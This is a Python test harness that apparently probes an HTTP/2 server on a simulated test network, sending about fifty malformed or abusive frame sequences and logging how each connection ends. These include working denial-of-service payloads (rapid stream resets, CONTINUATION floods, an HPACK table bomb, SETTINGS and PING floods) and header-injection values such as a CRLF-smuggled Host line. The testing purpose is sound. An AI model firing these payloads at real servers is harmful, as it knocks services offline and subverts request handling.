# Hostile HTTP/2 over TLS to web.example, one connection for each: its name and how it ended:
# "goaway CODE", "reset CODE" (of a stream), "status N", "closed" or "open" (it was borne). What is
# sent is bounded in bytes and time. Aims at the simulated internet of a test alone.
import socket, ssl, struct, sys, time

HOST = sys.argv[1] if len(sys.argv) > 1 else "web.example"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PROMISE, PING, GOAWAY, WINDOW, MORE = range(10)


def frame(kind, flags, stream, data=b""):
    return struct.pack("!I", len(data))[1:] + struct.pack("!BBI", kind, flags, stream) + data


def text(value):
    """A string of HPACK, as it is."""
    size = len(value)
    if size < 127:
        return bytes([size]) + value
    head, size = b"\x7f", size - 127
    while size >= 128:
        head, size = head + bytes([size % 128 + 128]), size // 128
    return head + bytes([size]) + value


def field(name, value):
    return b"\0" + text(name) + text(value)


def request(*more, method=b"GET", path=b"/hello.txt", authority=None, scheme=b"https"):
    fields = [(b":method", method), (b":scheme", scheme), (b":path", path),
              (b":authority", (authority or HOST).encode())]
    return b"".join(field(n, v) for n, v in fields if v is not None) + b"".join(
        field(n, v) for n, v in more)


START = PREFACE + frame(SETTINGS, 0, 0)
ASK = frame(HEADERS, 5, 1, request())


def attack(data, repeat=1, then=b"", most=4.0):
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((HOST, 443), 5)
    link = context.wrap_socket(raw, server_hostname=HOST)
    if link.selected_alpn_protocol() != "h2":
        return "no_h2"
    link.settimeout(0.2)
    until, answer, pending = time.time() + most, b"", START + data * repeat + then
    ended = False
    try:
        while time.time() < until and not ended:
            if pending:
                try:
                    sent = link.send(pending[:65536])
                    pending = pending[sent:]
                except (socket.timeout, ssl.SSLWantWriteError):
                    pass
            try:
                part = link.recv(65536)
                ended = not part
                answer += part
            except (socket.timeout, ssl.SSLWantReadError):
                if not pending:
                    break
    except (OSError, ssl.SSLError):
        ended = True
    found = "closed" if ended else "open"
    while len(answer) >= 9:
        size = struct.unpack("!I", b"\0" + answer[:3])[0]
        kind, flags, data = answer[3], answer[4], answer[9:9 + size]
        answer = answer[9 + size:]
        if kind == GOAWAY and len(data) >= 8:
            return "goaway_%d" % struct.unpack("!I", data[4:8])[0]
        if kind == RESET and len(data) == 4:
            found = "reset_%d" % struct.unpack("!I", data)[0]
        if kind == HEADERS and data:
            known = {0x88: "200", 0x8d: "404", 0x8c: "400"}
            # Another status is a literal with the name of index 8.
            literal = data[0] in (0x08, 0x48) and data[1] == 3
            value = known.get(data[0]) or (data[2:5].decode("latin1") if literal else "huffman")
            found = "status_" + value
    return found


def ids(count):
    return range(1, 2 * count, 2)


big = b"b" * 4000
insert = b"\x40" + text(b"x") + text(big)
rows = {
    "honest": (ASK,),
    "garbage": (b"\xff" * 4000,),
    "long_frame": (b"\xff\xff\xff" + frame(DATA, 0, 1)[3:],),
    "headers_on_0": (frame(HEADERS, 5, 0, request()),),
    "even_stream": (frame(HEADERS, 5, 2, request()),),
    "data_on_idle": (frame(DATA, 1, 1, b"x"),),
    "window_0": (frame(WINDOW, 0, 0, b"\0\0\0\0"),),
    "window_overflow": (frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff") * 2,),
    "settings_window": (frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 2**31)),),
    "settings_frame": (frame(SETTINGS, 0, 0, struct.pack("!HI", 5, 1)),),
    "settings_push": (frame(SETTINGS, 0, 0, struct.pack("!HI", 2, 2)),),
    "settings_on_stream": (frame(SETTINGS, 0, 1),),
    "settings_size": (frame(SETTINGS, 0, 0, b"12345"),),
    "settings_many": (frame(SETTINGS, 0, 0, struct.pack("!HI", 3, 7) * 2700),),
    "ping_size": (frame(PING, 0, 0, b"123"),),
    "promise": (frame(PROMISE, 4, 1, b"\0\0\0\2" + request()),),
    "reset_idle": (frame(RESET, 0, 1, b"\0\0\0\1"),),
    "lone_continuation": (frame(MORE, 4, 1, request()),),
    "interrupted_headers": (frame(HEADERS, 1, 1, request()) + frame(PING, 0, 0, b"12345678"),),
    "self_dependency": (frame(PRIORITY, 0, 1, b"\0\0\0\1\0") + ASK,),
    "padding_too_long": (frame(HEADERS, 13, 1, b"\xff" + b"x"),),
    "bad_index": (frame(HEADERS, 5, 1, b"\xff\xff\xff\x7f"),),
    "endless_integer": (frame(HEADERS, 5, 1, b"\xff" * 200),),
    "table_too_large": (frame(HEADERS, 5, 1, b"\x3f\xff\xff\x7f" + request()),),
    "continuations": (frame(HEADERS, 1, 1, request()) + frame(MORE, 0, 1), 20000),
    "empty_continuations": (frame(HEADERS, 1, 1, b"") + frame(MORE, 0, 1) * 20000,),
    "long_continuations": (frame(HEADERS, 1, 1, request()) +
                           frame(MORE, 0, 1, field(b"x", big) * 4) * 500,),
    "bomb": (frame(HEADERS, 5, 1, request() + insert + b"\xbe" * 8000),),
    "resets": (b"".join(frame(HEADERS, 5, i, request()) + frame(RESET, 0, i, b"\0\0\0\x08")
                        for i in ids(10000)),),
    "many_streams": (b"".join(frame(HEADERS, 4, i, request(method=b"POST")) for i in ids(5000)),),
    "settings_flood": (frame(SETTINGS, 0, 0), 100000),
    "ping_flood": (frame(PING, 0, 0, b"12345678"), 100000),
    "empty_data": (frame(HEADERS, 4, 1, request(method=b"POST")) + frame(DATA, 0, 1) * 50000,),
    "window_dribble": (ASK + frame(WINDOW, 0, 1, b"\0\0\0\1") * 50000,),
    "priority_flood": (frame(PRIORITY, 0, 3, b"\0\0\0\0\1") * 50000 + ASK,),
    "unknown_frames": (frame(0x7b, 0xff, 0, b"x" * 100) * 5000 + ASK,),
    "other_host": (frame(HEADERS, 5, 1, request(authority="other.example")),),
    "host_differs": (frame(HEADERS, 5, 1, request((b"host", b"other.example"))),),
    "connection_field": (frame(HEADERS, 5, 1, request((b"connection", b"close"))),),
    "transfer_encoding": (frame(HEADERS, 5, 1, request((b"transfer-encoding", b"chunked"))),),
    "upper_case": (frame(HEADERS, 5, 1, request((b"Upper", b"x"))),),
    "line_in_value": (frame(HEADERS, 5, 1, request((b"x", b"a\r\nHost: other.example"))),),
    "nul_in_value": (frame(HEADERS, 5, 1, request((b"x", b"a\0b"))),),
    "pseudo_late": (frame(HEADERS, 5, 1, field(b"x", b"y") + request()),),
    "two_paths": (frame(HEADERS, 5, 1, request((b":path", b"/other"))),),
    "no_path": (frame(HEADERS, 5, 1, request(path=None)),),
    "unknown_pseudo": (frame(HEADERS, 5, 1, request((b":x", b"y"))),),
    "length_lies": (frame(HEADERS, 4, 1, request((b"content-length", b"5"), method=b"POST")) +
                    frame(DATA, 1, 1, b"longer than five"),),
    "connect": (frame(HEADERS, 4, 1, request(method=b"CONNECT", path=None, scheme=None)),),
    "honest_again": (ASK,),
}
for row, parts in rows.items():
    try:
        print(row, attack(*parts), flush=True)
    except OSError as error:
        print(row, "error_%s" % type(error).__name__, flush=True)
